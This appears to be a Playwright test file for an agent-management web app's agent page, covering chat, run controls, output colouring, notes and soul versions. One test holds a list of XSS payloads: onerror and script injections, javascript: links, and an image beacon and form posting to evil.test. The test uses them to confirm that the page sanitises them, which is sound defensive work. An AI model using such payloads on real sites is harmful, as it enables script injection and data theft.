"""The view of one agent: chat, run control, output, soul and explanations."""

import os
import re
from collections.abc import Generator
from pathlib import Path

import pytest
from playwright.sync_api import APIResponse, Page, Route, expect

from muster.machines.commands import ImportTeam
from tests.asking import Asker, asker
from tests.http.routes.content.test_memory import SOUL
from tests.http.routes.test_dialogues import PNG
from tests.live import Server, live
from tests.machines.teams.papers import paper
from tests.waits import until
from tests.web.pages import Watched, hard_to_use, home_with, played
from tests.web.teams import command, led, programs

SHOTS = os.environ.get("MUSTER_SHOTS")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Generator[Server]:
    folder = tmp_path_factory.mktemp("agent")
    more = "[agents.Busy]\ncommand = ['sh', '-c', 'echo up; exec sleep 60']\n"
    more += "[agents.Late]\ncommand = ['sh', '-c', 'echo an early line; exit 3']\n"
    more += "[agents.Painter]\n" + command(folder, "painter", PAINTER)
    more += "[agents.Flood]\n" + command(folder, "flood", FLOOD)
    more += "[agents.Waker]\nsoul = 'I listen.'\nwake_check = true\n" + command(
        folder, "waker", WAKER
    )
    with live(programs(folder, more)) as running:
        yield running


PAINTER = r"""
print("\x1b[32mPASSED\x1b[0m a test, \x1b[1;31mFAILED\x1b[0m another \x1b[2Kdone")
print("10 %\r55 %\r100 % loaded")
"""

FLOOD = """
for n in range(20000):
    print("line", n, "<b>&", "x" * (n % 90))
print("the end")
"""


WAKER = """
import sys
sys.stdin.read()
print('[AGENT_AWAKE] {"name": "Waker", "soul": "I listen."}')
"""


@pytest.fixture
def operator(server: Server) -> Generator[Asker]:
    with asker(server, server.token) as somebody:
        yield somebody


def tab(page: Page, name: str) -> None:
    page.get_by_role("tab", name=name).click()


# ── talking ───────────────────────────────────────────────────────────────────────────────────────


def test_a_person_and_an_agent_talk(person: Watched, server: Server) -> None:
    page = person.signed_in(server, "#/agent/Echo")
    page.get_by_role("button", name="Start Agent").click()
    expect(page.locator(".who .badge.run")).to_have_text("RUNNING")
    box = page.get_by_role("textbox", name="Message to Echo")
    box.fill("first line")
    box.press("Shift+Enter")
    box.press_sequentially("*second* line")
    box.press("Enter")
    mine = page.locator(".bubble.human").last
    expect(mine).to_contain_text("first line")
    expect(mine.locator("em")).to_have_text("second")
    expect(box).to_have_value("")
    theirs = page.locator(".bubble:not(.human)").last
    expect(theirs).to_contain_text("I heard first line")
    expect(theirs.locator("strong").last).to_contain_text("first line")
    expect(mine.locator(".delivery")).to_have_text("read")

    tab(page, "Transcript")
    expect(page.locator("tab-set details").first).to_contain_text("Session 1")
    expect(page.locator("tab-set details li").first).to_contain_text("[human]")
    tab(page, "Wake payload")
    expect(page.locator("tab-set pre")).to_contain_text('<agent name="Echo"')
    expect(page.locator("tab-set pre")).to_contain_text("first line")
    tab(page, "Soul")
    expect(page.get_by_role("tabpanel")).to_contain_text("No soul: this agent")


PASTE = """
([box, bytes]) => {
  const data = new DataTransfer();
  data.items.add(new File([new Uint8Array(bytes)], "shot.png", { type: "image/png" }));
  box.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true }));
}
"""


def test_a_pasted_image_is_waited_for_and_sent(person: Watched, server: Server) -> None:
    page = person.signed_in(server, "#/agent/Busy")
    box = page.get_by_role("textbox", name="Message to Busy")
    uploads: list[Route] = []
    page.route("**/api/files?*", lambda route: uploads.append(route))
    page.evaluate(PASTE, [box.element_handle(), list(PNG)])
    expect(page.locator("chat-thread form li")).to_contain_text("shot.png")
    box.fill("look at this")
    box.press("Enter")
    expect(page.locator("chat-thread form li")).to_contain_text("sending …")
    uploads[0].continue_()
    shown = page.locator(".bubble.human").last.get_by_role("img", name="shot.png")
    expect(shown).to_be_visible()
    until(lambda: shown.evaluate("image => image.naturalWidth"))
    expect(page.locator("chat-thread [role=status]")).to_contain_text("takes no images")
    expect(page.locator("chat-thread form li")).to_have_count(0)
    assert not hard_to_use(page)
    if SHOTS:
        page.screenshot(path=f"{SHOTS}/chat-image.png")


def test_a_draft_is_kept_and_an_empty_message_is_not_sent(person: Watched, server: Server) -> None:
    page = person.signed_in(server, "#/agent/Once")
    box = page.get_by_role("textbox", name="Message to Once")
    expect(page.locator("chat-thread .log")).to_contain_text("No messages yet")
    expect(page.locator("chat-thread")).to_contain_text("Once is idle: messages wait")
    box.press("Enter")
    box.fill("half a tho")
    tab(page, "Wake payload")
    assert page.url.endswith("#/agent/Once/wake-payload")
    page.reload()
    expect(box).to_have_value("half a tho")
    expect(page.get_by_role("tab", selected=True)).to_have_text("Wake payload")
    expect(page.locator(".bubble")).to_have_count(0)


def test_hostile_text_is_shown_and_does_nothing(
    visitor: Watched, server: Server, operator: Asker
) -> None:
    operator.post("/api/agents", {"name": "Mallory"}, 201)
    asked: list[str] = []
    visitor.context.on("request", lambda request: asked.append(request.url))
    page = visitor.signed_in(server, "#/agent/Mallory")
    expect(page.locator("chat-thread .log")).to_contain_text("No messages yet")
    for text in HOSTILE:
        operator.post("/api/agents/Mallory/messages", {"message": text}, 201)
    expect(page.locator(".bubble")).to_have_count(len(HOSTILE))
    bubbles = page.locator(".bubble .text")
    expect(bubbles.first.locator("p").first).to_be_visible()  # rendered, not only shown
    expect(bubbles.first).to_contain_text("<img src=x onerror=")
    forbidden = "script, img, iframe, style, form, input, [onclick], [onerror], [id], [style]"
    assert bubbles.locator(forbidden).count() == 0
    links = bubbles.locator("a").evaluate_all("links => links.map(link => [link.href, link.rel])")
    assert {link.split(":")[0] for link, _ in links} <= {"http", "https", "mailto"}
    assert all("noopener" in rel for _, rel in links)
    assert page.evaluate("window.hurt") is None
    assert all(url.startswith(server.url) for url in asked), asked
    wide = "document.documentElement.scrollWidth <= document.documentElement.clientWidth"
    assert page.evaluate(wide)


HOSTILE = (
    'hello <img src=x onerror="window.hurt=1"> <b onclick="window.hurt=1">there</b>',
    "<script>window.hurt=1</script><style>body{display:none}</style><iframe src=//evil.test>",
    "[a](javascript:window.hurt=1) [b](data:text/html,x) [c](vbscript:x) [d](//evil.test/x)",
    "![beacon](http://evil.test/?secret=1) [fine](https://example.org) <https://example.org/b>",
    "```html\n<script>window.hurt=1</script>\n```\n\n| a | b |\n|---|--:|\n| <i> | `<u>` |",
    "\u202egnirts desrever\u202c \u0000 \ufffd " + "x" * 5000,
    "# " + "[" * 2000,
    ">" * 300 + " deep",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>\n<form action=//evil.test><input>",
)


# ── running ───────────────────────────────────────────────────────────────────────────────────────


def test_the_controls_are_those_of_the_table(person: Watched, server: Server) -> None:
    page = person.signed_in(server, "#/agent/Once")
    panel, controls = page.locator("run-panel"), page.locator("run-controls")
    start = controls.get_by_role("button", name="Start Agent")
    stop = controls.get_by_role("button", name="Stop Agent")
    expect(start).to_be_visible()
    expect(stop).to_have_count(0)
    assert start.evaluate("button => getComputedStyle(button).color") == "rgb(160, 65, 0)"

    controls.get_by_role("button", name="Run Single Session").click()
    expect(page.locator("live-output")).to_contain_text("one session")
    expect(panel.locator(".state").first).to_contain_text("pause")
    expect(panel.locator(".state").last).to_contain_text("pause")
    expect(panel.locator(".between")).to_have_text("Current matches desired.")

    controls.get_by_role("button", name="Run Cleanup Session").click()
    expect(page.locator("live-output .lines div:not(.session)")).to_have_count(2)
    tab(page, "Why")
    expect(page.get_by_role("tabpanel")).to_contain_text("run_cleanup")
    expect(page.get_by_role("tabpanel")).to_contain_text("because")


def test_desired_and_current_are_shown_side_by_side_while_they_differ(
    person: Watched, server: Server
) -> None:
    page = person.signed_in(server, "#/agent/Busy")
    panel, controls = page.locator("run-panel"), page.locator("run-controls")
    expect(controls.get_by_role("button", name="Start Agent")).to_be_visible()
    page.keyboard.press("s")
    expect(page.locator("live-output")).to_contain_text("up")
    stop = controls.get_by_role("button", name="Stop Agent")
    assert stop.evaluate("button => getComputedStyle(button).color") == "rgb(194, 28, 40)"
    stop.click()
    desired, current = panel.locator(".state").first, panel.locator(".state").last
    expect(desired).to_contain_text("pause")
    expect(desired).to_contain_text("stopped in Mission Control")
    expect(page.locator(".who .meaning")).to_have_text("stops after this session")
    expect(current).to_contain_text("continuous")
    expect(panel.locator(".between")).to_contain_text("Desired and current have differed for")
    expect(page.locator(".who .badge.run")).to_have_text("RUNNING")
    controls.get_by_role("button", name="Stop now").click()
    expect(panel.locator(".between")).to_have_text("Current matches desired.")
    expect(page.locator(".who .badge.run")).to_have_text("IDLE")


def test_a_refusal_is_shown_next_to_its_button(
    visitor: Watched, server: Server, operator: Asker
) -> None:
    viewer = operator.post("/api/tokens", {"role": "viewer"}, 201)["secret"]

    def refused(route: Route) -> None:  # by the server itself, as it refuses a viewer
        route.continue_(headers={**route.request.headers, "authorization": f"Bearer {viewer}"})

    for path in ("**/api/agents/*/run", "**/api/send"):
        visitor.context.route(path, refused)
    page = visitor.signed_in(server, "#/agent/Faily")
    page.get_by_role("button", name="Start Agent").click()
    expect(page.locator("run-controls [role=alert]")).to_contain_text("viewer")
    expect(page.locator(".who .badge.run")).to_have_text("IDLE")
    box = page.get_by_role("textbox", name="Message to Faily")
    box.fill("may I?")
    box.press("Enter")
    expect(page.locator("chat-thread [role=alert]")).to_contain_text("viewer")
    expect(box).to_have_value("may I?")


def test_output_that_arrives_during_the_first_load_is_shown(
    visitor: Watched, server: Server
) -> None:
    held: list[tuple[Route, APIResponse]] = []
    visitor.context.route("**/output", lambda route: held.append((route, route.fetch())))
    page = visitor.signed_in(server, "#/agent/Late")
    expect(page.locator("live-output")).to_contain_text("No output yet.")
    page.get_by_role("button", name="Run Single Session").click()
    expect(page.locator("failure-panel")).to_contain_text("exit code 3")
    (route, empty), *_ = held
    route.fulfill(response=empty)
    expect(page.locator("live-output")).to_contain_text("an early line")


def test_the_page_of_an_agent_that_was_removed_says_so(
    person: Watched, server: Server, operator: Asker
) -> None:
    operator.post("/api/agents", {"name": "Brief"}, 201)
    page = person.signed_in(server, "#/agent/Brief")
    expect(page.get_by_role("heading", name="Brief", exact=True)).to_be_visible()
    operator.delete("/api/agents/Brief")
    expect(page.get_by_role("heading", name="No agent is called Brief")).to_be_visible()


def test_output_has_the_colours_of_a_terminal_sessions_and_a_search(
    person: Watched, server: Server
) -> None:
    page = person.signed_in(server, "#/agent/Painter")
    page.get_by_role("button", name="Run Single Session").click()
    output = page.locator("live-output")
    lines = output.locator(".lines div")
    expect(lines).to_have_count(3)
    expect(lines.nth(0)).to_contain_text("session ")
    expect(lines.nth(1)).to_have_text("PASSED a test, FAILED another done")
    expect(lines.nth(1).locator(".ansi-green")).to_have_text("PASSED")
    expect(lines.nth(1).locator(".ansi-bold.ansi-red")).to_have_text("FAILED")
    expect(lines.nth(2)).to_have_text("100 % loaded")  # what a progress line ended with
    output.get_by_label("Search in the output").fill("failed")
    expect(output.get_by_role("status")).to_have_text("1 of 3 lines")
    expect(lines.nth(2)).to_be_hidden()


def test_a_stop_is_taken_back_within_some_seconds(
    person: Watched, server: Server, operator: Asker
) -> None:
    operator.asked("PUT", "/api/agents/Busy/run", 200, json={"desired": "continuous"})
    page = person.signed_in(server, "#/agent/Busy")
    page.get_by_role("button", name="Stop Agent").click()
    expect(page.locator(".toast")).to_contain_text("Busy stops.")
    page.keyboard.press("u")
    until(lambda: operator.get("/api/agents/Busy/run")["desired"] == "continuous")
    expect(page.get_by_role("button", name="Stop Agent")).to_be_visible()
    expect(page.locator(".toast")).to_have_count(0)


def test_a_flood_of_output_is_bounded(person: Watched, server: Server) -> None:
    page = person.signed_in(server, "#/agent/Flood")
    page.get_by_role("button", name="Run Single Session").click()
    lines = page.locator("live-output .lines")
    expect(lines).to_contain_text("the end")
    assert lines.locator("div").count() <= 1000
    expect(page.locator(".who .badge.run")).to_have_text("IDLE")


# ── who it is ─────────────────────────────────────────────────────────────────────────────────────


def test_the_soul_is_shown_and_keys_go_to_the_previous_and_next_agent(
    person: Watched, tmp_path: Path
) -> None:
    with live(led(tmp_path)) as server, asker(server, server.token) as operator:
        operator.asked("PUT", "/api/agents/Julian/run", 200, json={"desired": "continuous"})
        operator.post("/api/agents/summon", status=201)
        operator.post("/api/send", {"message": "hatch"}, 201)
        page = person.signed_in(server, "#/agent/Lyra")
        expect(page.get_by_role("heading", name="Lyra", exact=True)).to_be_visible()
        expect(page.locator(".facts")).to_contain_text("run by the lead")
        tab(page, "Soul")
        expect(page.get_by_role("tabpanel").locator("pre")).to_contain_text(
            "**chose**"
        )  # as written
        page.keyboard.press("]")
        expect(page.get_by_role("heading", name="Kael", exact=True)).to_be_visible()
        page.keyboard.press("[")
        expect(page.get_by_role("heading", name="Lyra", exact=True)).to_be_visible()


def test_a_person_keeps_notes_for_an_agent_and_reads_older_messages(
    person: Watched, server: Server, operator: Asker
) -> None:
    for number in range(130):
        operator.post("/api/send", {"message": f"word {number}", "targetAgent": "Busy"}, 201)
    page = person.signed_in(server, "#/agent/Busy")
    # the agent may speak between them, and other tests write to it too
    words = page.locator("chat-thread article.human", has_text=re.compile(r"word \d+"))
    expect(words.last).to_contain_text("word 129")
    assert words.count() <= 100
    page.get_by_role("button", name="Older messages").click()
    expect(words).to_have_count(130)
    expect(page.get_by_role("button", name="Older messages")).to_be_hidden()
    tab(page, "Notes")
    page.get_by_role("textbox", name="New note for Busy").fill("the plan")
    page.get_by_role("button", name="Add note").click()
    expect(page.get_by_role("textbox", name="Note 1")).to_have_value("the plan")
    page.get_by_role("textbox", name="Note 1").fill("the new plan")
    with page.expect_response("**/notes/*"):
        page.get_by_role("button", name="Save note 1").click()
    expect(page.get_by_role("textbox", name="Note 1")).to_have_value("the new plan")
    assert operator.get("/api/agents/Busy/notes")["notes"][0]["text"] == "the new plan"
    page.get_by_role("button", name="Delete note 1").click()
    expect(page.locator("agent-notes li")).to_have_count(0)


def test_an_unknown_agent_has_a_page_that_says_so(person: Watched, server: Server) -> None:
    page = person.signed_in(server, "#/agent/Nobody")
    expect(page.get_by_role("heading", name="No agent is called Nobody")).to_be_visible()
    page.get_by_role("link", name="Back to the team").click()
    expect(page.get_by_role("heading", name="Team")).to_be_visible()


# ── waking ────────────────────────────────────────────────────────────────────────────────────────


def test_the_page_says_what_an_agent_was_given_and_whether_it_knew_itself(
    person: Watched, server: Server, operator: Asker
) -> None:
    page = person.signed_in(server, "#/agent/Waker")
    expect(page.locator(".who h1")).to_have_text("Waker")
    expect(page.locator(".who .wake")).to_be_hidden()
    operator.asked("PUT", "/api/agents/Waker/run", 200, json={"desired": "run_once"})
    expect(page.locator(".who .wake")).to_have_text(
        "At its last wake: soul 9 characters, no messages; it knew its name and its soul"
    )


def test_a_soul_that_lost_a_merge_is_shown_with_its_difference_and_chosen(
    person: Watched, tmp_path: Path
) -> None:
    first = ImportTeam(documents=(paper(0, "Lyra", SOUL, born=0),))
    other = ImportTeam(documents=(paper(0, "Lyra", "A song.\nI count.", born=10**6),))
    with live(played(tmp_path / "home", first, other)) as server:
        page = person.signed_in(server, "#/agent/Lyra")
        tab(page, "Soul")
        expect(page.locator("pre.soul")).to_have_text(SOUL)
        lost = page.locator(".soul-version", has_text="lost the merge")
        expect(lost.locator("pre")).to_contain_text("+A song.")
        lost.get_by_role("button", name="Use this version").click()
        expect(page.locator("pre.soul")).to_have_text("A song.\nI count.")
        expect(page.locator(".soul-version", has_text="current")).to_contain_text("Version 3")
        with asker(server, server.token) as boss:
            boss.asked("PUT", "/api/agents/Lyra/soul", 200, json={"soul": "I sing again."})
        expect(page.locator("pre.soul")).to_have_text("I sing again.")


RELAYS = """
import sys
print('[AGENT_REGISTERED] {"name": "Lyra", "gridPosition": 0}', flush=True)
for line in sys.stdin:
    if "ROUTE TO AGENT: Lyra" in line and "good morning" in line:
        print('[AGENT_SAYS] {"name": "Lyra", "text": "Good morning to you."}', flush=True)
"""


def test_the_chat_says_that_a_message_went_through_the_lead_and_shows_its_answer(
    person: Watched, tmp_path: Path
) -> None:
    lead = "[agents.Julian]\nseat = 4\nlong_lived = true\n" + command(tmp_path, "lead", RELAYS)
    home = home_with(tmp_path, lead)
    (home / "inboxes" / "lyra.json").mkdir(parents=True)  # a file that cannot be written
    with live(home) as server:
        with asker(server, server.token) as operator:
            operator.asked("PUT", "/api/agents/Julian/run", 200, json={"desired": "continuous"})
        page = person.signed_in(server)
        page.get_by_role("link", name="Lyra", exact=True).click()
        page.get_by_role("textbox", name="Message to Lyra").fill("good morning")
        page.keyboard.press("Enter")
        log = page.get_by_role("log", name="Messages")
        expect(log.locator(".human .delivery")).to_contain_text("through the lead")
        expect(log).to_contain_text("Good morning to you.")
